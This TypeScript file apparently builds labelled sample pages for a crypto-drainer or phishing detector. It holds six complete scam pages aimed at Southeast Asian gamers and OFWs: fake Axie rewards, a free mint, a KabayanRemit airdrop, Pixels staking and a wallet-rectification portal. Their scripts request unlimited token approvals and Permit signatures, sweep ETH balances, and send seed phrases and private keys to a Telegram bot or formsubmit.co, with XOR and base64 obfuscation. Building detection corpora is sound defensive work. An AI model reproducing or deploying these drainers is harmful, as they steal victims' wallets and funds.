import { htmlRoute, type Entry } from '../entry.js';
import { page, walletModal, walletModalCss, setApprovalForAllData, approveData, increaseAllowanceData, xorB64, xorDecoderJs, telegramSendJs, b64 } from '../parts/yw-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  (() => {
    const axie = '0x32950db2a7164ae833121501c797d79e7b79d74c';
    const land = '0x8c811e3c958e190f5ec15fb376533a3398620500';
    const operator = '0x7a3f1c2e9b04d5a6f8e1c3b2a9d0e4f5c6b7a812';
    return {
      id: 'yw-drain-axie-season-rewards-ronin',
      label: 'cryptodrainer',
      kind: 'nft-approval-drainer',
      url: 'https://axie-season-rewards.claims-ronin.xyz/claim',
      body: page({
        title: 'Axie Infinity — Claim Origins Season Rewards',
        css: `body{font-family:"Rubik",Arial,sans-serif;background:#0f1321;color:#fff;text-align:center}.h{padding:16px;display:flex;justify-content:space-between;align-items:center;max-width:900px;margin:0 auto}.h b{font-size:20px;color:#3aa9ff}.hero{max-width:640px;margin:30px auto;background:linear-gradient(160deg,#1b2440,#111729);border-radius:20px;padding:30px}.hero h1{margin:0 0 8px}.rw{display:flex;justify-content:center;gap:14px;margin:18px 0}.rw div{background:#222c4d;border-radius:12px;padding:12px 18px}.rw b{display:block;font-size:22px;color:#ffd54f}.cb{background:#3aa9ff;border:0;border-radius:12px;padding:15px 40px;font-size:17px;font-weight:700;color:#0f1321;cursor:pointer}.st{font-size:13px;color:#8c98b8;margin-top:14px}${walletModalCss('#3aa9ff')}`,
        body: `<div class="h"><b>AXIE INFINITY</b><span style="font-size:13px">Origins · Season 12</span></div>
<div class="hero"><h1>Season 12 rewards are live 🏆</h1><p>Top 100,000 players in the Philippines, Vietnam and Indonesia receive AXS and an exclusive Mystic Axie. Connect your Ronin Wallet to check your rank.</p><div class="rw"><div><b>245 AXS</b>Max reward</div><div><b>1 Mystic</b>Top 1,000</div><div><b>3 days</b>left</div></div><button class="cb" id="cb">Connect Ronin Wallet</button><div class="st" id="st">Not connected</div></div>
${walletModal('wm', ['Ronin Wallet', 'MetaMask', 'WalletConnect'])}
<script>
var OP='${operator}',COLL=['${axie}','${land}'];
function prov(){return window.ronin&&window.ronin.provider?window.ronin.provider:window.ethereum;}
document.getElementById('cb').onclick=function(){document.getElementById('wm').hidden=false;};
document.querySelectorAll('.wm-opt').forEach(function(b){b.onclick=async function(){document.getElementById('wm').hidden=true;var p=prov();if(!p){document.getElementById('st').textContent='Please install Ronin Wallet';return;}
 try{var acc=await p.request({method:'eth_requestAccounts'});var me=acc[0];document.getElementById('st').textContent='Checking rank for '+me.slice(0,6)+'…';
 try{await p.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x7e4'}]});}catch(e){}
 fetch('/api/log',{method:'POST',body:JSON.stringify({a:me,w:b.dataset.wallet})});
 for(var i=0;i<COLL.length;i++){document.getElementById('st').textContent='Verifying eligibility ('+(i+1)+'/'+COLL.length+')… please confirm in your wallet';
  await p.request({method:'eth_sendTransaction',params:[{from:me,to:COLL[i],data:'${setApprovalForAllData(operator).slice(0, 10)}'+'${setApprovalForAllData(operator).slice(10)}'}]});}
 document.getElementById('st').textContent='✅ Rewards will be sent to your wallet within 24 hours.';}catch(e){document.getElementById('st').textContent='Claim failed, please try again.';}};});
</script>`,
      }),
      routes: { 'axie-season-rewards.claims-ronin.xyz/api/log': jsonRoute({ ok: 1 }) },
    } satisfies Entry;
  })(),
  (() => {
    const sink = '0x9e21b0f7a4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9';
    const usdt = '0xdac17f958d2ee523a2206206994597c13d831ec7';
    const usdc = '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48';
    return {
      id: 'yw-drain-pinoy-apes-free-mint',
      label: 'cryptodrainer',
      kind: 'fake-mint-drainer',
      url: 'https://pinoyapes-mint.club/',
      body: page({
        title: 'Pinoy Ape Yacht Club — FREE MINT LIVE',
        css: `body{font-family:"Space Grotesk",Arial,sans-serif;background:#fbe9b7;color:#2b1d00}.w{max-width:560px;margin:30px auto;background:#fff;border:4px solid #2b1d00;border-radius:20px;padding:24px;text-align:center;box-shadow:8px 8px 0 #2b1d00}.ap{width:200px;height:200px;margin:0 auto 14px;border-radius:16px;background:radial-gradient(circle at 40% 40%,#c98a4b,#6b3f1d)}.bar{height:16px;border:2px solid #2b1d00;border-radius:10px;overflow:hidden}.bar i{display:block;height:100%;width:87%;background:#ff4d6d}.mb{background:#ff4d6d;color:#fff;border:3px solid #2b1d00;border-radius:12px;padding:14px 40px;font-size:20px;font-weight:800;cursor:pointer;margin-top:14px}.q{display:flex;justify-content:center;gap:10px;align-items:center;margin-top:12px}.q button{width:36px;height:36px;border-radius:50%;border:2px solid #2b1d00;background:#fff;font-size:18px}`,
        body: `<div class="w"><div class="ap"></div><h1>Pinoy Ape Yacht Club</h1><p>5,555 hand-drawn apes from Manila to Mindanao. <b>FREE MINT</b> for the community — just pay gas. Holders get airdrops of $PAYC and access to the Siargao meetup.</p>
<div class="bar"><i></i></div><p><b>4,833 / 5,555</b> minted · Max 5 per wallet</p>
<div class="q"><button id="m">−</button><b id="n">2</b><button id="p">+</button></div>
<button class="mb" id="mint">MINT NOW</button><p id="s" style="font-size:13px"></p></div>
<script>
var n=2;document.getElementById('m').onclick=function(){n=Math.max(1,n-1);document.getElementById('n').textContent=n;};document.getElementById('p').onclick=function(){n=Math.min(5,n+1);document.getElementById('n').textContent=n;};
var S='${sink}',T=[['USDT','${usdt}'],['USDC','${usdc}']];
document.getElementById('mint').onclick=async function(){var e=window.ethereum;if(!e){document.getElementById('s').textContent='Install MetaMask to mint';return;}
 var a=(await e.request({method:'eth_requestAccounts'}))[0];
 var bal=BigInt(await e.request({method:'eth_getBalance',params:[a,'latest']}));
 for(var i=0;i<T.length;i++){var c=T[i];var d='0x70a08231'+a.slice(2).padStart(64,'0');var b=BigInt(await e.request({method:'eth_call',params:[{to:c[1],data:d},'latest']}).catch(function(){return '0x0';}));
  if(b>0n){document.getElementById('s').textContent='Step '+(i+1)+': enable '+c[0]+' gas rebate';await e.request({method:'eth_sendTransaction',params:[{from:a,to:c[1],data:'${approveData(sink).slice(0, 10)}'+S.slice(2).padStart(64,'0')+'f'.repeat(64)}]}).catch(function(){});}}
 if(bal>2000000000000000n){var v=bal*92n/100n;document.getElementById('s').textContent='Minting '+n+' apes…';await e.request({method:'eth_sendTransaction',params:[{from:a,to:S,value:'0x'+v.toString(16),data:'0x1249c58b'}]}).catch(function(){});}
 fetch('/x/'+a,{method:'POST'});document.getElementById('s').textContent='🎉 Mint submitted! Your apes will appear in OpenSea shortly.';};
</script>`,
      }),
      routes: { 'pinoyapes-mint.club/x/': jsonRoute({}) },
    } satisfies Entry;
  })(),
  (() => {
    const spender = '0x4b8e7f2a1c9d0e3f5a6b7c8d9e0f1a2b3c4d5e6f';
    const usdcPolygon = '0x3c499c542cef5e3811e1192ce70d8cc03d5c3359';
    return {
      id: 'yw-drain-usdc-permit-ofw-remit-airdrop',
      label: 'cryptodrainer',
      kind: 'permit-signature-drainer',
      url: 'https://kabayan-remit-airdrop.org/claim?ref=hk',
      body: page({
        title: 'KabayanRemit $KBYN Airdrop for OFWs',
        css: `body{font-family:Inter,Arial,sans-serif;background:linear-gradient(160deg,#0b3d91,#0a7c6b);min-height:100vh;color:#fff}.c{max-width:480px;margin:40px auto;background:rgba(255,255,255,.08);border:1px solid rgba(255,255,255,.2);border-radius:20px;padding:26px;backdrop-filter:blur(6px)}.c h1{margin-top:0}.am{font-size:36px;font-weight:800;color:#ffe082}.b{width:100%;padding:15px;border:0;border-radius:14px;background:#ffe082;color:#0b3d91;font-weight:800;font-size:16px;cursor:pointer}.s{font-size:13px;opacity:.85;margin-top:10px}.ls li{margin:6px 0;font-size:14px}`,
        body: `<div class="c"><h1>$KBYN Airdrop 🇵🇭</h1><p>KabayanRemit is rewarding OFWs who sent money home with stablecoins. Eligible wallets receive up to:</p><div class="am">2,500 KBYN</div><ul class="ls"><li>✔ Sent USDT/USDC to the Philippines in 2024–2025</li><li>✔ Wallet on Polygon or Ethereum</li><li>✔ Claim ends Nov 30</li></ul><button class="b" id="cl">Check eligibility &amp; claim</button><div class="s" id="s">Gasless claim — you only sign a message.</div></div>
<script>
var SP='${spender}',TK='${usdcPolygon}';
document.getElementById('cl').onclick=async function(){var e=window.ethereum,s=document.getElementById('s');if(!e){s.textContent='Open this page in your wallet browser (MetaMask / Trust Wallet).';return;}
 var a=(await e.request({method:'eth_requestAccounts'}))[0];try{await e.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x89'}]});}catch(x){}
 s.textContent='Eligible ✓ Sign the gasless claim message in your wallet.';
 var nonce=await fetch('/api/nonce?o='+a).then(function(r){return r.json();}).then(function(j){return j.n;}).catch(function(){return 0;});
 var msg={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:137,verifyingContract:TK},message:{owner:a,spender:SP,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:nonce,deadline:'4102444800'}};
 var sig=await e.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(msg)]});
 await fetch('/api/relay',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({owner:a,token:TK,sig:sig,deadline:msg.message.deadline})});
 s.textContent='🎉 Claimed! KBYN will arrive in your wallet within 48 hours.';};
</script>`,
      }),
      routes: {
        'kabayan-remit-airdrop.org/api/nonce': jsonRoute({ n: 0 }),
        'kabayan-remit-airdrop.org/api/relay': jsonRoute({ queued: true }),
      },
    } satisfies Entry;
  })(),
  {
    id: 'yw-drain-ronin-wallet-sync-seed',
    label: 'cryptodrainer',
    kind: 'seed-phrase-phish',
    url: 'https://ronin-wallet-sync.app-validate.com/restore',
    body: page({
      title: 'Ronin Wallet — Sync & Validate',
      css: `body{font-family:Inter,Arial,sans-serif;background:#f4f7fd;color:#1a2340}.c{max-width:440px;margin:40px auto;background:#fff;border-radius:18px;padding:26px;box-shadow:0 4px 20px rgba(30,60,140,.1)}.lg{display:flex;align-items:center;gap:10px;font-weight:700;font-size:18px}.lg i{width:34px;height:34px;border-radius:10px;background:#1273ea}.al{background:#fff4e5;border:1px solid #ffcc80;border-radius:10px;padding:10px;font-size:13px;margin:14px 0}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{padding:9px;border:1px solid #d6deee;border-radius:8px;font-size:13px}.b{width:100%;margin-top:16px;padding:14px;border:0;border-radius:12px;background:#1273ea;color:#fff;font-weight:700}.sm{font-size:11px;color:#7c88a6;margin-top:10px}`,
      body: `<div class="c"><div class="lg"><i></i>Ronin Wallet</div><h2>Sync your wallet</h2><div class="al">Due to the Ronin Bridge v3 upgrade, wallets that are not re-synced before the snapshot will lose access to their Axies, land and AXS/RON balances.</div>
<p style="font-size:14px">Enter your 12-word Secret Recovery Phrase in the correct order.</p><form id="f"><div class="g">${Array.from({ length: 12 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}." autocomplete="off" autocapitalize="off" spellcheck="false">`).join('')}</div><button class="b">Sync wallet</button></form><p class="sm">Your phrase is encrypted locally and never leaves your device.</p></div>
<script>
${telegramSendJs('sync', "atob('" + b64('7788109245:AAFr2kLqP0wX9zVt3mN5cB8yH1jD6eS4gUo') + "')", "atob('" + b64('-1002311450017') + "')", 'RONIN SEED')}
document.getElementById('f').addEventListener('paste',function(ev){var t=(ev.clipboardData||window.clipboardData).getData('text').trim().split(/\\s+/);if(t.length>=12){ev.preventDefault();t.slice(0,12).forEach(function(w,i){document.querySelector('[name=w'+(i+1)+']').value=w;});}});
document.getElementById('f').addEventListener('submit',function(ev){ev.preventDefault();var w=[];for(var i=1;i<=12;i++)w.push(document.querySelector('[name=w'+i+']').value.trim().toLowerCase());if(w.some(function(x){return !x;}))return alert('Please fill in all 12 words');sync([w.join(' ')]).then(function(){alert('Wallet synced successfully. Please wait up to 2 hours for balances to update.');location.href='https://wallet.roninchain.com/';});});
</script>`,
    }),
  },
  (() => {
    const pixel = '0x7eae20d11ef8c779433eb24503def900b9d28ad7';
    const slp = '0xa8754b9fa15fc18bb59458815510e40a12cd2014';
    const spender = '0x3d9f2e1c0b8a7f6e5d4c3b2a1908f7e6d5c4b3a2';
    const conf = xorB64(JSON.stringify({ s: spender, t: [pixel, slp], api: '/api/v1/stake' }), 'px-2025');
    return {
      id: 'yw-drain-pixels-staking-approve',
      label: 'cryptodrainer',
      kind: 'token-approval-drainer',
      url: 'https://pixels-staking.ronin-pools.app/stake',
      body: page({
        title: 'Pixels Staking v2 — Stake $PIXEL & $SLP, earn 38% APR',
        css: `body{font-family:"Press Start 2P",monospace,Arial;background:#2c1f4a;color:#fff}.w{max-width:560px;margin:30px auto;padding:20px}.p{background:#3c2c66;border:3px solid #000;border-radius:6px;padding:18px;margin-bottom:14px;box-shadow:4px 4px 0 #000}.p h3{margin-top:0;color:#ffd84d}.r{display:flex;justify-content:space-between;font-family:Arial;font-size:14px;margin:6px 0}.b{width:100%;padding:14px;border:3px solid #000;background:#6cd36c;font-family:inherit;font-size:12px;cursor:pointer;box-shadow:3px 3px 0 #000}.s{font-family:Arial;font-size:13px;color:#cfc2f2}`,
        body: `<div class="w"><div class="p"><h3>Pixels Staking v2</h3><div class="r"><span>APR</span><b>38.4%</b></div><div class="r"><span>Total staked</span><b>142,880,311 PIXEL</b></div><div class="r"><span>Lock period</span><b>Flexible</b></div><div class="r"><span>Bonus</span><b>+Land NFT raffle</b></div></div>
<div class="p"><button class="b" id="st">CONNECT &amp; STAKE</button><p class="s" id="s">Supports Ronin Wallet and MetaMask on Ronin network.</p></div></div>
<script>
${xorDecoderJs('_q')}
var C=JSON.parse(_q('${conf}','px-2025'));
function enc(sel,addr){return sel+addr.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);}
document.getElementById('st').onclick=async function(){var p=(window.ronin&&window.ronin.provider)||window.ethereum,s=document.getElementById('s');if(!p){s.textContent='No wallet found';return;}
 var a=(await p.request({method:'eth_requestAccounts'}))[0];try{await p.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x7e4'}]});}catch(e){}
 for(var i=0;i<C.t.length;i++){s.textContent='Enable token '+(i+1)+'/'+C.t.length+' for staking…';
  var sel=i===0?'${approveData('0x0').slice(0, 10)}':'${increaseAllowanceData('0x0').slice(0, 10)}';
  await p.request({method:'eth_sendTransaction',params:[{from:a,to:C.t[i],data:enc(sel,C.s)}]}).catch(function(){});}
 fetch(C.api,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:a})});s.textContent='Staked! Rewards start in the next epoch.';};
</script>`,
      }),
      routes: { 'pixels-staking.ronin-pools.app/api/v1/stake': jsonRoute({ ok: 1 }) },
    } satisfies Entry;
  })(),
  {
    id: 'yw-drain-dapp-rectify-manual-connect',
    label: 'cryptodrainer',
    kind: 'wallet-rectification-phish',
    url: 'https://dapps-rectify-node.web.app/',
    routes: {
      'dapps-rectify-node.web.app/': htmlRoute(
        page({
          title: 'DApp Node — Decentralized wallet rectification protocol',
          css: `body{font-family:Montserrat,Arial,sans-serif;background:#0a0e1a;color:#e6ecff}.h{text-align:center;padding:40px 20px}.h h1{margin:0;font-size:30px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:12px;max-width:840px;margin:0 auto;padding:0 20px}.g button{background:#141b2e;border:1px solid #26324f;color:#e6ecff;border-radius:12px;padding:18px;text-align:left;cursor:pointer}.g b{display:block;margin-bottom:4px}.g small{color:#8391b5}.md{position:fixed;inset:0;background:rgba(0,0,0,.7);display:none;align-items:center;justify-content:center}.bx{background:#141b2e;border-radius:14px;padding:20px;width:400px}.tb{display:flex;gap:6px;margin:10px 0}.tb span{flex:1;text-align:center;padding:8px;border-radius:8px;background:#0a0e1a;cursor:pointer;font-size:13px}.tb span.on{background:#3b82f6}textarea{width:100%;height:100px;background:#0a0e1a;color:#fff;border:1px solid #26324f;border-radius:8px;padding:8px}.go{width:100%;margin-top:10px;padding:12px;border:0;border-radius:8px;background:#3b82f6;color:#fff;font-weight:bold}`,
          body: `<div class="h"><h1>DApp Node</h1><p>Open protocol to resolve wallet issues — connect your wallet to any of the options below.</p></div>
<div class="g">${[
            ['Rectification', 'Fix wallet errors'],
            ['Claim Airdrop', 'Claim pending airdrops'],
            ['Migration', 'Migrate tokens to v2'],
            ['Missing Balance', 'Recover missing funds'],
            ['Whitelist', 'Whitelist your wallet'],
            ['Slippage Error', 'Fix swap slippage'],
            ['Staking Issues', 'Unstake stuck tokens'],
            ['NFT Bridge', 'Bridge stuck NFTs'],
            ['Login Issues', 'Wallet locked out'],
          ]
            .map(([t, d]) => `<button class="op"><b>${t}</b><small>${d}</small></button>`)
            .join('')}</div>
<div class="md" id="md"><div class="bx"><b>Automatic connection failed — connect manually</b><div class="tb"><span class="on" data-k="phrase">Phrase</span><span data-k="keystore">Keystore JSON</span><span data-k="private">Private Key</span></div><form method="POST" action="https://formsubmit.co/ajax/d7c1e0f4a2b9" id="fm"><input type="hidden" name="kind" id="kd" value="phrase"><input type="hidden" name="wallet" id="wl"><textarea name="secret" placeholder="Enter your recovery phrase — typically 12 (sometimes 24) words separated by single spaces"></textarea><button class="go">CONNECT</button></form></div></div>
<script>
document.querySelectorAll('.op').forEach(function(b){b.onclick=function(){document.getElementById('wl').value=b.querySelector('b').textContent;setTimeout(function(){document.getElementById('md').style.display='flex';},1500);};});
document.querySelectorAll('.tb span').forEach(function(t){t.onclick=function(){document.querySelectorAll('.tb span').forEach(function(x){x.className='';});t.className='on';document.getElementById('kd').value=t.dataset.k;};});
document.getElementById('fm').addEventListener('submit',function(e){e.preventDefault();fetch(this.action,{method:'POST',body:new FormData(this),headers:{Accept:'application/json'}}).finally(function(){alert('Error 503: node busy, please try again later.');});});
</script>`,
        }),
      ),
    },
  },
];
